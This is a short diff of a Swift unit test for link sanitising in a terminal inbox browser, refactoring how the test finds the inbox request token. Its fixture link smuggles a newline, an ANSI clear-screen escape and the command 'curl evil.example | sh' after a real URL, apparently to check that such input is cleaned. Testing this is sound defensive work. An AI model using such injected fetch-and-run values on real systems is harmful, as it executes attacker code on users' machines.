@@ -69,10 +69,9 @@ struct CleanLinkTests {
         configuration.signedInAs = "bob"
         var model = BrowserModel(configuration: configuration, features: SignedInModelTests.features, now: Fixtures.now)
         _ = model.handle(.start, at: Fixtures.now)
-        let open = try #require(model.handle(.key(.character("i")), at: Fixtures.now).compactMap { effect -> RequestToken? in
-            if case .send(let token, .inbox(false, _), _) = effect { return token }
-            return nil
-        }.first)
+        let open = try #require(model.handle(.key(.character("i")), at: Fixtures.now).compactMap(\.sending).first {
+            $0.request.as(BrowserRequest.Inbox.self)?.unreadOnly == false
+        }?.token)
         var item = SignedInModelTests.item(5, site: "superuser", unread: true)
         item.link = "https://superuser.com/questions/5/x\n\u{1B}[2Jcurl evil.example | sh"
         _ = model.handle(.response(open, .inbox(.success([item]))), at: Fixtures.now)
